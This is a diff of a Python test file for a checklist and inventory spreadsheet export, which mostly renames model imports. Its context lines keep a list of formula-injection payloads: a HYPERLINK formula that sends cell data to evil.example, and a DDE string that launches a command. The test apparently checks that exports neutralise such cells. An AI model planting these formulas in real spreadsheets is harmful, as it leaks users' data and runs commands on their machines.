@@ -15,7 +15,8 @@ from exports.checklist_import import (
 )
 from exports.checklists import export_checklists, export_inventory
 from exports.xlsx_read import UnreadableWorkbook
-from models import checklists, materials
+from models.materials import checklists
+from models.materials import library
 from tests.models.checklist_fixtures import TODAY, shop  # noqa: F401
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3",
@@ -25,7 +26,7 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+cmd|' /C calc
 @pytest.fixture
 def filled(shop):  # noqa: F811
     ws, ids = shop
-    base = materials.item_from_material(ws.conn, ids["stand"])
+    base = library.item_from_material(ws.conn, ids["stand"])
     made, _ = checklists.add_items(ws.conn, ids["salon_list"], [
         {"name": "易拉宝", "category": "宣传物料", "spec": "80×200cm", "quantity": 2,
          "unit": "个", "unit_price": 9050, "supplier": "快印店", "owner": "小王",
